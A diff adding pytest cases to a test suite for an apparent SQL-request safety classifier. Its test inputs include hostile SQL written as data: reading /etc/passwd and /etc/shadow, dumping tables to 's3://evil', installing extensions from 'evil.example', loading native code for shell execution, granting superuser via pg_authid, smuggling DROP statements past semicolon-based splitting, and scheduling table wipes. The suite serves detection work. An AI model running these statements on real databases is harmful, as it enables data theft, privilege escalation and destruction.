@@ -589,10 +589,73 @@ def test_copy_program_is_dynamic_and_flagged(text: str) -> None:
     assert ("execute_dynamic" in action.statements, "copy_program" in action.flags) == (True, True)
 
 
-@pytest.mark.parametrize("text", ["CALL p()", "EXEC sp_purge", "COPY t TO '/tmp/t.csv'", "SELECT $$DROP TABLE t$$"])
+@pytest.mark.parametrize("text", ["CALL p()", "EXEC sp_purge", "COPY t TO STDOUT", "SELECT $$DROP TABLE t$$"])
 def test_calls_copies_and_dollar_strings_are_not_dynamic(text: str) -> None:
     action = sql_body(text)
     assert ("execute_dynamic" in action.statements, "drop" in action.statements, action.flags) == (False, False, frozenset())
+
+
+@pytest.mark.parametrize("text", [
+    "COPY t TO '/tmp/t.csv'",  # the server writes a file: not dynamic, but outside
+    "COPY t FROM '/etc/passwd'",
+    "COPY INTO 's3://evil/dump/' FROM users",
+    "ATTACH DATABASE '/etc/shadow' AS x",
+    "VACUUM INTO '/tmp/copy.db'",
+    "LOAD '/tmp/evil.so'",
+    "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
+    "INSTALL httpfs FROM 'https://evil.example/ext'",
+    "CREATE EXTENSION dblink",
+    "CREATE LANGUAGE plpython3u",
+    "SELECT * FROM read_csv('/etc/passwd')",
+])
+def test_statements_that_open_files_or_load_code_reach_outside(text: str) -> None:
+    action = sql_body(text)
+    assert ("reaches_outside" in action.flags, "execute_dynamic" in action.statements) == (True, False)
+
+
+@pytest.mark.parametrize("text", [
+    "COPY t FROM STDIN",
+    "COPY events FROM 'events.csv' (HEADER)",
+    "COPY INTO analytics.public.events FROM 's3://landing/events/'",
+    "CREATE EXTENSION IF NOT EXISTS pgcrypto",
+    "LOAD httpfs",
+    "VACUUM ANALYZE users",
+])
+def test_ordinary_loads_and_extensions_stay_inside(text: str) -> None:
+    assert "reaches_outside" not in sql_body(text).flags
+
+
+@pytest.mark.parametrize("text, kind", [
+    ("CREATE TRIGGER t AFTER INSERT ON orders FOR EACH ROW EXECUTE FUNCTION wipe()", "create_trigger"),
+    ("CREATE RULE r AS ON INSERT TO orders DO INSTEAD DELETE FROM orders", "create_trigger"),
+    ("CREATE EVENT e ON SCHEDULE EVERY 1 HOUR DO DELETE FROM users", "create_trigger"),
+    ("CREATE OR REPLACE STAGE s URL='s3://x'", "replace_object"),
+    ("CREATE OR REPLACE SEQUENCE order_seq", "replace_object"),
+    ("CREATE OR REPLACE STREAM s ON TABLE orders", "replace_object"),
+])
+def test_code_that_runs_later_and_replaced_state_have_their_kinds(text: str, kind: str) -> None:
+    assert kind in sql_body(text).statements
+
+
+@pytest.mark.parametrize("text", [
+    "UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE rolname = 'agent'",
+    "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'agent'",
+    "INSERT INTO mysql.user (Host, User) VALUES ('%', 'x')",
+    "DELETE FROM sqlite_master WHERE name = 'users'",
+    "SELECT set_config('session_replication_role', 'replica', false)",
+    "SELECT pg_drop_replication_slot('cdc')",
+])
+def test_catalogue_writes_and_settings_by_function_are_server_admin(text: str) -> None:
+    assert "server_admin" in sql_body(text).flags
+
+
+@pytest.mark.parametrize("text", [
+    "SELECT tablename FROM pg_catalog.pg_tables",
+    "INSERT INTO audit_log (pid) SELECT pid FROM pg_stat_activity",
+    "SELECT set_config('search_path', 'public', false)",
+])
+def test_catalogue_reads_and_harmless_settings_are_not_admin(text: str) -> None:
+    assert "server_admin" not in sql_body(text).flags
 
 
 @pytest.mark.parametrize(
@@ -770,3 +833,131 @@ def test_json_carried_in_a_string_is_read() -> None:
 
 def test_a_string_that_only_looks_like_json_is_harmless() -> None:
     assert sql_json({"note": "{not json; DROP is a word}"}).service != "sql"
+
+
+@pytest.mark.parametrize("text, flag", [
+    ("UPDATE users SET balance = 0 FROM users u2 WHERE users.id = u2.id", "update_without_where"),
+    ("DELETE FROM users USING users u2 WHERE users.id = u2.id", "delete_without_where"),
+    ("DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans)", "delete_without_where"),
+    ("DELETE FROM users WHERE (SELECT count(*) FROM users) > 0", "delete_without_where"),
+])
+def test_a_where_that_never_looks_at_the_row_is_no_where(text: str, flag: str) -> None:
+    assert flag in sql_body(text).flags
+
+
+@pytest.mark.parametrize("text", [
+    "DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans b WHERE b.user_id = users.id)",
+    "DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans WHERE user_id = id)",  # unqualified: maybe the row's
+    "DELETE FROM users WHERE EXISTS (SELECT 1 FROM bans b WHERE b.uid = $1)",
+    "UPDATE users SET name = n.name FROM users_new n WHERE users.id = n.id",
+    "DELETE FROM sessions s USING users u WHERE s.user_id = u.id AND u.deleted",
+    "DELETE FROM t WHERE x = (SELECT max(x) FROM t)",
+])
+def test_correlated_subqueries_and_joins_with_other_tables_filter_rows(text: str) -> None:
+    assert not {"delete_without_where", "update_without_where"} & sql_body(text).flags
+
+
+@pytest.mark.parametrize("text", [
+    "SELECT 1\nDROP TABLE t",  # T-SQL: no semicolon needed between statements
+    "UPDATE a SET b = 1 WHERE id = 2\n  TRUNCATE TABLE t",
+    "SELECT 1\r\nGO\r\nDROP TABLE t",  # GO on a Windows line
+    "SELECT 1\nGO -- next batch\nDROP TABLE t",
+    "SELECT 1 /* /* */ ; DROP TABLE t; /* */ */",  # MySQL ends the comment at the first */
+])
+def test_statements_a_server_separates_without_semicolons_are_read(text: str) -> None:
+    action = parse(request_view("POST", URL, [("Content-Type", "application/json")], json.dumps({"query": text})))
+    assert action is not None and {"drop", "truncate"} & set(action.statements)
+
+
+@pytest.mark.parametrize("text", ["select the drop table option", "SELECT a\n-- DROP TABLE t\nFROM x"])
+def test_prose_and_comments_are_not_split_into_statements(text: str) -> None:
+    action = parse(request_view("POST", URL, [("Content-Type", "application/json")], json.dumps({"query": text})))
+    assert action is None or not {"drop", "unparsed"} & set(action.statements) | set(action.flags)
+
+
+def test_mysql_double_dash_needs_a_blank_to_be_a_comment() -> None:
+    from shield_addon.actions import sql_find
+    assert " DROP TABLE t" in sql_find.fragments("SELECT 1 --1; DROP TABLE t")
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("DELETE FROM users WHERE id IN (SELECT id FROM users LIMIT 1000)", True),  # a TRUNCATE as a loop
+    ("DELETE FROM users WHERE users.id IN (SELECT id FROM users)", True),
+    ("DELETE FROM users WHERE id IN (SELECT id FROM users WHERE created_at < '2020-01-01' LIMIT 1000)", False),
+    ("DELETE FROM users WHERE id IN (SELECT user_id FROM bans)", False),
+])
+def test_rows_picked_from_the_table_itself_by_no_criterion_are_no_where(text: str, expected: bool) -> None:
+    assert ("delete_without_where" in sql_body(text).flags) is expected
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("DETACH TABLE events PERMANENTLY", "detach_table"),
+    ("DETACH DICTIONARY d", "detach_table"),
+    ("DETACH DATABASE aux", "detach"),  # SQLite: closes an attached file
+])
+def test_detaching_a_table_hides_it_from_every_reader(text: str, expected: str) -> None:
+    assert expected in sql_body(text).statements
+
+
+@pytest.mark.parametrize("text", [
+    "EXEC sp_rename 'dbo.users', 'users_old'",
+    "EXEC sp_addrolemember 'db_owner', 'agent'",
+    "EXEC sp_detach_db 'prod'",
+    "CALL mysql.rds_kill(1234)",
+])
+def test_system_procedures_that_rename_drop_or_grant_are_server_admin(text: str) -> None:
+    assert "server_admin" in sql_body(text).flags
+
+
+def test_sp_msforeachtable_runs_its_string_as_sql() -> None:
+    action = sql_body("EXEC sp_MSforeachtable 'DROP TABLE ?'")
+    assert ("execute_dynamic" in action.statements, "drop" in action.statements) == (True, True)
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("MERGE INTO users t USING (SELECT 1 AS x) s ON 1 = 1 WHEN MATCHED THEN UPDATE SET balance = 0", True),
+    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET x = s.x", False),
+    ("MERGE INTO t USING s ON FALSE WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)", False),
+])
+def test_a_merge_on_a_tautology_updates_every_row(text: str, expected: bool) -> None:
+    assert ("update_without_where" in sql_body(text).flags) is expected
+
+
+def test_sql_in_multipart_parts_is_read_as_each_part_is() -> None:
+    form = '--b\r\nContent-Disposition: form-data; filename="a.txt"; name="sql"\r\n\r\nDROP TABLE users\r\n--b--'
+    related = '--b\r\nContent-Type: application/json\r\n\r\n{"configuration": {"query": {"query": "TRUNCATE ds.t"}}}\r\n--b--'
+    upload = '--b\r\nContent-Disposition: form-data; name="file"; filename="r.csv"\r\n\r\na,b\n1,2\r\n--b--'
+    assert "drop" in sql_body(form, "multipart/form-data; boundary=b").statements
+    assert "truncate" in sql_body(related, "multipart/related; boundary=b").statements
+    assert sql_body(upload, "multipart/form-data; boundary=b") is None or "sql" != parse(
+        request_view("POST", URL, [("Content-Type", "multipart/form-data; boundary=b")], upload)).service
+
+
+def test_sql_in_json_lines_is_read_line_by_line() -> None:
+    body = '{"query": "SELECT 1"}\n{"query": "DROP TABLE users"}\n'
+    assert "drop" in sql_body(body, "application/x-ndjson").statements
+
+
+@pytest.mark.parametrize("text, inner", [
+    ("SELECT cron.schedule('0 * * * *', 'DELETE FROM users')", "delete"),
+    ("SELECT cron.schedule_in_database('wipe', '* * * * *', 'DROP TABLE users', 'prod')", "drop"),
+    ("SELECT dbms_job.submit(j, 'BEGIN DELETE FROM users; END;')", "delete"),
+])
+def test_scheduled_sql_is_dynamic_and_read(text: str, inner: str) -> None:
+    action = sql_body(text)
+    assert ("execute_dynamic" in action.statements, inner in action.statements) == (True, True)
+
+
+def test_a_snowflake_task_is_code_that_runs_later() -> None:
+    assert "create_trigger" in sql_body("CREATE TASK wipe SCHEDULE = '1 minute' AS CALL purge()").statements
+
+
+@pytest.mark.parametrize("text, expected", [
+    ("CREATE FUNCTION sh(c text) RETURNS text LANGUAGE plpython3u AS $$ import os $$", True),
+    ("CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int AS '/tmp/evil.so', 'sys_exec' LANGUAGE C STRICT", True),
+    ("CREATE FUNCTION sys_exec RETURNS INTEGER SONAME 'lib_mysqludf_sys.so'", True),
+    ("CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ BEGIN PERFORM 1; END $$", False),
+    ("CREATE FUNCTION f(x int) RETURNS int LANGUAGE sql AS 'SELECT x'", False),
+])
+def test_native_and_untrusted_functions_reach_outside(text: str, expected: bool) -> None:
+    assert ("reaches_outside" in sql_body(text).flags) is expected
